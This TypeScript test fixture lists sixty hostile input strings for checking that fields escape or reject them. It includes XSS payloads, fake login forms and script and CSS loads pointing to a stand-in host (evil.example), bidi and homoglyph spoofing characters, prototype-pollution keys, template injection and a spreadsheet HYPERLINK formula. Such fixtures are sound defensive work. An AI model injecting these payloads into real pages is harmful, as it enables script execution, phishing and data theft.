// Texts that would like to be more than text. Whatever of them runs sets `pwned`, or opens a dialog.

const run = 'pwned=1;alert(1)'

/** Sixty. Those that a form of the contract does not take, a field leaves out: see `fitting`. */
export const hostile: readonly string[] = [
  // Script
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<script src=https://evil.example/a.js></script>`,
  `<ScRiPt\n>${run}</sCrIpT>`,
  `--><script>${run}</script><!--`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  // Markup that loads, moves or covers
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<iframe src=https://evil.example/></iframe>',
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  '<embed src=https://evil.example/x.swf>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<form action=https://evil.example/><input name=key><button>Sign in</button></form>',
  '<dialog open><h1>Signed out</h1></dialog>',
  '<h1 data-pwned>Your key has expired</h1>',
  '<plaintext>',
  '<!--',
  // Event handlers
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload='${run}'>`,
  `<body onpageshow="${run}">`,
  `<details open ontoggle="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<marquee onstart="${run}">`,
  `" onmouseover="${run}" x="`,
  `\` onerror=${run} \``,
  // URLs
  `javascript:${run}`,
  ` JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `javascript://example.com/%0A${run}`,
  `https://example.com/"onclick="${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  '//evil.example/console',
  // Characters that reorder or hide
  'invoice\u202efdp.exe',
  '\u2066\u2067\u2068approve\u2069 reject',
  'ad\u200bmin\u200c \ufeffroot\u2060',
  '\u0645\u0631\u062d\u0628\u0627 abc 123 \u05e9\u05dc\u05d5\u05dd',
  '\u0001\u0008\u000b\u001f\u007f\u0085 almost NUL %00 \\u0000 \\0',
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u001b[8mhidden',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u{1f3f3}\ufe0f\u200d\u{1f308} \u{1f1e9}\u{1f1ea} 1\ufe0f\u20e3',
  '\u0440\u0430\u0443\u0440\u0430l.com \u0391dmin \uff41\uff44\uff4d\uff49\uff4e',
  `Z${'\u0351\u0363\u035c\u0489'.repeat(20)}algo`,
  // Names of prototypes
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"pwned":1}}',
  // Templates, styles, formats
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}<%= ${run} %>#{${run}}`,
  `</style><style>*{display:none}body{background:url(https://evil.example/c)}`,
  `color:red;position:fixed;inset:0;background:url(javascript:${run})`,
  `=HYPERLINK("https://evil.example/","log in")`,
  '%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  'A'.repeat(30_000),
]

const controls = /\p{Cc}/gu

/** Each as far as a field takes it: so many characters, and perhaps no control characters. */
export function fitting(characters_max: number, { without_controls = false } = {}): string[] {
  return hostile.map((text) => {
    const taken = text.slice(0, characters_max)
    return without_controls ? taken.replace(controls, '') : taken
  })
}
